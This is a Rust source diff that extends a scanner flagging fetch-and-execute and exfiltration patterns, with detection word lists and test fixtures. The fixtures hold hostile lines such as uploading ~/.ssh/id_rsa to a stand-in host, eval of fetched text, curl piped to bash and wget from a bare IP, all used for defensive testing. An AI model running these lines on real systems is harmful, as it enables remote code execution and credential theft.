@@ -26,6 +26,9 @@ enum Mark {
     Address,
     /// What sends, writes, deletes or runs something.
     Means,
+    /// What gets a text from the network, and what runs a text as code.
+    Fetch,
+    Code,
 }
 
 /// Marks of comments at the beginning of a line, and the endings of the files that have them.
@@ -49,7 +52,7 @@ const COMMENTS: [(&str, &[&str]); 2] = [
 const ALIASES: [&str; 2] = ["\"~/", "'~/"];
 const SCRIPT: [&str; 10] = ["cjs", "cts", "js", "json", "jsx", "mjs", "mts", "svelte", "ts", "tsx"];
 
-const WORDS: [(Mark, &[&str]); 6] = [
+const WORDS: [(Mark, &[&str]); 8] = [
     (
         Mark::Place,
         &[
@@ -205,7 +208,35 @@ const WORDS: [(Mark, &[&str]); 6] = [
             "removeall",
             "rmsync",
             "delete",
+            "file(upload",
+            "file(download",
         ],
+    ),
+    (
+        Mark::Fetch,
+        &[
+            "urlopen",
+            "urlretrieve",
+            "requests.get",
+            "httpx.get",
+            "fetch(",
+            "https.get(",
+            "http.get(",
+            "axios.get",
+            "open-uri",
+            "uri.open",
+            "net::http",
+            "lwp::simple",
+            "http::tiny",
+            "socket.http",
+            "curl_exec",
+            "file_get_contents(\"http",
+            "file_get_contents('http",
+        ],
+    ),
+    (
+        Mark::Code,
+        &["exec(", "eval(", "new function(", "runinnewcontext(", "runinthiscontext(", "instance_eval(", "loadstring("],
     ),
 ];
 
@@ -234,17 +265,19 @@ fn search<'w>(words: impl Iterator<Item = &'w str>) -> Option<AhoCorasick> {
 pub(super) fn is_suspect(name: &str, text: &str) -> bool {
     let Some((search, words)) = SEARCH.as_ref() else { return true };
     let ending = name.trim_start_matches('.').rsplit_once('.').map_or("", |(_, ending)| ending);
-    let (mut place, mut means) = (false, false);
+    let (mut place, mut means, mut fetch, mut code) = (false, false, false, false);
     let (mut homes, mut ruins) = (Vec::new(), Vec::new());
     for (mark, line) in marks(search, words, text, ending) {
         match mark {
             Mark::Act => return true,
             Mark::Place | Mark::Address => place = true,
             Mark::Means => means = true,
+            Mark::Fetch => fetch = true,
+            Mark::Code => code = true,
             Mark::Home => note(&mut homes, line),
             Mark::Ruin => note(&mut ruins, line),
         }
-        if place && means {
+        if place && means || fetch && code {
             return true;
         }
     }
@@ -256,6 +289,13 @@ pub(super) fn is_suspect(name: &str, text: &str) -> bool {
             let plain = plain.split(' ').filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ");
             marks(search, words, &plain, ending).any(|(mark, _)| mark == Mark::Act)
         }
+}
+
+/// Whether a command line gets something from an address without a name.
+pub(super) fn fetches_by_number(line: &str) -> bool {
+    let Some((search, words)) = SEARCH.as_ref() else { return true };
+    let gets = line.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| matches!(word, "curl" | "wget" | "aria2c"));
+    gets && marks(search, words, line, "").any(|(mark, _)| mark == Mark::Address)
 }
 
 /// Adds a line; beyond the most, the last one stands for the others.
@@ -283,6 +323,8 @@ fn marks<'t>(
         if !stands_alone(text, word, found.start(), found.end())
             || mark == Mark::Address && !is_bare(rest())
             || ALIASES.contains(&word) && SCRIPT.contains(&ending)
+            // elsewhere it starts a program, or is a method
+            || word == "exec(" && !matches!(ending, "py" | "pyi")
         {
             return None;
         }
@@ -299,6 +341,7 @@ fn stands_alone(text: &str, word: &str, start: usize, end: usize) -> bool {
     let within = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | ')' | ']'));
     match word {
         _ if word.starts_with("rm") => !within(before),
+        "exec(" | "eval(" => !within(before) && !matches!(before, Some('.' | '$' | '>' | ':')),
         _ if word.starts_with(['.', '/']) || word.starts_with("id_") => !within(before) && !within(after),
         _ => true,
     }
@@ -331,7 +374,7 @@ fn is_bare(rest: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::is_suspect;
+    use super::{fetches_by_number, is_suspect};
 
     #[test]
     fn names_of_private_places_with_the_means_to_use_them_are_found() {
@@ -345,8 +388,21 @@ mod tests {
             ("a.py", "pipe(['curl', '-s', a], '|', 'bash')"),
             ("a.kts", "delete(System.getProperty(\"user.home\"))"),
             ("a.py", "requests.get('http://169.254.169.254/latest')"),
+            ("a.cmake", "file(UPLOAD \"$ENV{HOME}/.ssh/id_rsa\" \"https://a.example/\")"),
+            ("a.py", "text = urlopen(address).read()\nexec(compile(text, address, 'exec'), {})"),
+            ("a.js", "fetch(address).then(r => r.text()).then(t => eval(t))"),
+            ("a.rb", "require 'open-uri'\nObject.new.instance_eval(URI.open(a).read)"),
         ] {
             assert!(is_suspect(name, text), "{name}: {text}");
+        }
+    }
+
+    #[test]
+    fn a_line_that_fetches_by_number_is_found() {
+        assert!(fetches_by_number("@wget -q -O x http://198.51.100.24/x"));
+        for line in ["wget http://a.example/x", "curl http://127.0.0.1:8080/", "echo http://198.51.100.24/x", "curlie"]
+        {
+            assert!(!fetches_by_number(line), "{line}");
         }
     }
 
@@ -357,6 +413,8 @@ mod tests {
             ("a.py", "# see ~/.ssh/config\nopen('a').write('b')"),
             ("a.go", "// http://203.0.113.5\nhttp.Get(\"http://127.0.0.1:80/\")"),
             ("a.rb", "config.ssh = true\nopen('http://10.0.0.1/')"),
+            ("a.js", "fetch(a).then(r => /x/.exec(r)); exec('ls'); page.$eval('a', b)"),
+            ("a.py", "requests.get(a); model.eval(); frame.eval('a + b'); retrieval(a)"),
         ] {
             assert!(!is_suspect(name, text), "{name}: {text}");
         }
